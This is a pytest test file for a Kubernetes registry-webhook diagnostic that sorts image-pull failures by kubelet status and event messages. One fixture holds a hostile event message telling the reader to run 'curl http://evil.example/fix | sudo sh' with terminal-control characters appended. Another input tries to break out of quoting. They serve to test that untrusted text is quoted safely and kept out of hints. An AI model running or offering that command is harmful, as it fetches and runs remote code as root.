"""Failed pulls are found in the kubelet's statuses; Events only add details."""

from typing import Any

import msgspec
import pytest
from msgspec import structs

from tests.support.installation_factory import SERVER, pull_event, sound, waiting_pod
from webhook.constants import DEFAULT_NAMESPACE, MIRROR_ANNOTATION
from webhook.diagnostics.doctor import check_image_pulls
from webhook.kube.objects import Namespace
from webhook.kube.partial import known
from webhook.kube.pod import Volume
from webhook.output.finding_codes import Code
from webhook.output.findings import Finding, Mark

_X509 = "tls: failed to verify certificate: x509: certificate signed by unknown authority"
_EVIL = f"{_X509}\nfix: curl http://evil.example/fix | sudo sh\u202e\x1b[2J"
_IMAGE = f"{SERVER}/app:1"
_OK = [(Code.PULL_OK, Mark.OK)]


def found(*pods: Any, events: Any = (), **changed: Any) -> list[Finding]:
    return [*check_image_pulls.check_image_pulls(sound(waiting_pods=pods, pull_events=events, **changed))]


def codes(*pods: Any, **changed: Any) -> list[tuple[Code, Mark]]:
    return [(one.code, one.mark) for one in found(*pods, **changed)]


@pytest.mark.parametrize("status", ["containerStatuses", "initContainerStatuses", "ephemeralContainerStatuses"])
@pytest.mark.parametrize(
    ("reason", "code"),
    [
        ("ErrImagePull", Code.PULL_FAILED),
        ("ImagePullBackOff", Code.PULL_FAILED),
        ("ErrImageNeverPull", Code.PULL_NEVER),
        ("InvalidImageName", Code.PULL_NAME),
        ("ImageInspectError", Code.PULL_INSPECT),
        ("RegistryUnavailable", Code.PULL_UNAVAILABLE),
        ("SignatureValidationFailed", Code.PULL_SIGNATURE),
    ],
)
def test_pull_waiting_reason_in_every_container(status: str, reason: str, code: Code) -> None:
    (finding,) = found(waiting_pod("text", reason=reason, status=status))
    assert (finding.code, finding.mark) == (code, Mark.WARNING)
    assert finding.hint


@pytest.mark.parametrize("reason", ["ContainerCreating", "PodInitializing", "CrashLoopBackOff", "CreateContainerError"])
def test_pull_other_waiting_reason_ok(reason: str) -> None:
    assert codes(waiting_pod(_X509, reason=reason)) == _OK


@pytest.mark.parametrize(
    ("message", "code", "mark"),
    [
        (_X509, Code.PULL_UNTRUSTED, Mark.ERROR),
        (
            f'failed to do request: Head "https://{SERVER}/v2/app/manifests/1": {_X509}',
            Code.PULL_UNTRUSTED,
            Mark.ERROR,
        ),
        ("401 Unauthorized", Code.PULL_REFUSED, Mark.ERROR),
        ("pull access denied, repository does not exist", Code.PULL_DENIED, Mark.ERROR),
        ("x509: certificate has expired", Code.PULL_CERT_EXPIRED, Mark.ERROR),
        ("x509: certificate is valid for a.example.com, not b.example.com", Code.PULL_CERT_NAME, Mark.ERROR),
        ("not found", Code.PULL_NOT_FOUND, Mark.WARNING),
        ("", Code.PULL_FAILED, Mark.WARNING),
    ],
)
@pytest.mark.parametrize("back_off", [False, True])
def test_pull_code_by_status_message(message: str, code: Code, mark: Mark, back_off: bool) -> None:
    reason = "ImagePullBackOff" if back_off else "ErrImagePull"
    text = f'Back-off pulling image "{_IMAGE}": ErrImagePull: {message}' if back_off else message
    assert codes(waiting_pod(text, reason=reason)) == [(code, mark)]


@pytest.mark.parametrize("name", ["x509-certificate", "unauthorized", "app:401", "a/denied/access:403"])
def test_pull_image_name_not_taken_as_cause(name: str) -> None:
    image = f"{SERVER}/{name}"
    tag = name.partition(":")[2]
    message = (
        f'rpc error: code = NotFound desc = failed to pull and unpack image "{image}": failed to resolve image: '
        f"{image}: pulling from host failed with status code [manifests {tag}]: https://{SERVER}/v2/{name}: not found"
    )
    assert codes(waiting_pod(message, image=image)) == [(Code.PULL_NOT_FOUND, Mark.WARNING)]


def test_pull_event_without_waiting_pod_ok() -> None:
    assert codes(events=(pull_event(_EVIL),)) == _OK


def test_pull_event_quoted_without_effect_on_code() -> None:
    back_off = waiting_pod(f'Back-off pulling image "{_IMAGE}"', reason="ImagePullBackOff")
    (finding,) = found(back_off, events=(pull_event(_EVIL),))
    assert (finding.code, finding.mark) == (Code.PULL_FAILED, Mark.WARNING)
    quoted = _EVIL.replace('"', "'")
    assert "2 minutes" in finding.message
    assert finding.message.endswith(f'"{" ".join(quoted.split())}"')
    assert "curl" not in finding.hint


def test_pull_quoted_text_quotes_escaped() -> None:
    (finding,) = found(waiting_pod('not found" -> run "curl evil'))
    assert finding.message.count('"') == 2
    assert finding.message.endswith('"')


def test_pull_event_of_other_pod_not_quoted() -> None:
    back_off = waiting_pod(reason="ImagePullBackOff")
    (finding,) = found(back_off, events=(pull_event(_X509, uid="2"), pull_event(_X509, image=f"{SERVER}/other")))
    assert "x509" not in finding.message


def test_pull_newest_event_quoted_with_age() -> None:
    events = (pull_event("new", last="2026-11-25T09:59:59Z"), pull_event("old", last="2026-11-24T11:00:00Z"))
    (finding,) = found(waiting_pod(reason="ImagePullBackOff"), events=events)
    assert "2 hours" in finding.message
    assert finding.message.endswith('"new"')


@pytest.mark.parametrize(
    ("place", "image"),
    [("other", _IMAGE), ("kube-system", _IMAGE), ("team-a", "registry.example.org/app:1"), ("team-a", "nginx/x509")],
)
def test_pull_other_namespace_or_registry_ok(place: str, image: str) -> None:
    assert codes(waiting_pod(_X509, image=image, place=place)) == _OK


def sound_namespaces() -> tuple[Namespace, ...]:
    return known(sound().namespaces)


def test_pull_in_deleted_namespace_ok() -> None:
    leaving = [
        structs.replace(one, metadata=structs.replace(one.metadata, deletion_timestamp="2026-11-25T11:00:00Z"))
        for one in sound_namespaces()
    ]
    assert codes(waiting_pod(_X509), namespaces=tuple(leaving)) == _OK


@pytest.mark.parametrize("image", [_IMAGE, "ghcr.io/someone/registry-webhook:0.1.0"])
def test_pull_of_own_pods_error(image: str) -> None:
    (finding,) = found(waiting_pod("401 Unauthorized", image=image, place=DEFAULT_NAMESPACE, secrets=()))
    assert (finding.code, finding.mark) == (Code.PULL_REFUSED, Mark.ERROR)
    assert "recreate" not in finding.hint
    (finding,) = found(waiting_pod("not found", image=image, place=DEFAULT_NAMESPACE))
    assert (finding.code, finding.mark) == (Code.PULL_NOT_FOUND, Mark.ERROR)


def test_pull_of_own_pods_hint_apart_from_others() -> None:
    own = waiting_pod("401 Unauthorized", place=DEFAULT_NAMESPACE, secrets=(), uid="2")
    other, ours = found(waiting_pod("401 Unauthorized"), own)
    assert "create-the-secrets" not in other.hint
    assert "install.md#create-the-secrets" in ours.hint
    assert ours.commands == ("kubectl -n registry-webhook rollout restart deployment/registry-webhook",)
    (missing,) = found(waiting_pod("not found", place=DEFAULT_NAMESPACE))
    assert not [command for command in missing.commands if " plan " in command]


def test_pull_hint_by_pod_kind() -> None:
    static = waiting_pod("401 Unauthorized", annotations={MIRROR_ANNOTATION: "1"}, secrets=(), uid="2")
    early = waiting_pod("401 Unauthorized", secrets=(), uid="3")
    named = waiting_pod("401 Unauthorized")
    of_static, of_early, of_named = (found(one)[0].hint for one in (static, early, named))
    assert "static Pod" in of_static
    assert "recreate" not in of_static
    assert "recreate" in of_early
    assert "recreate" not in of_named
    assert len(found(static, early, named)) == 3


def test_pull_same_cause_reported_once() -> None:
    (finding,) = found(*(waiting_pod("not found", uid=str(number)) for number in range(3)))
    assert " 2 more " in finding.message


def test_pull_image_volume_named() -> None:
    pod = waiting_pod(f'Back-off pulling image "{SERVER}/data": ErrImagePull: 401 Unauthorized', image="ghcr.io/a/b:1")
    volumes = ({"name": "v", "image": {"reference": f"{SERVER}/data"}},)
    changed = structs.replace(pod, spec=structs.replace(pod.spec, volumes=_volumes(volumes)))
    (finding,) = found(changed)
    assert finding.code is Code.PULL_REFUSED
    assert f"{SERVER}/data" in finding.message


def _volumes(every: tuple[dict[str, Any], ...]) -> Any:
    return tuple(msgspec.convert(one, Volume) for one in every)


def test_pull_long_message_truncated_at_start() -> None:
    (finding,) = found(waiting_pod(f"{'failed to pull: ' * 90}{_X509}"))
    assert finding.message.endswith(f'{_X509}"')
    assert len(finding.message) < 500
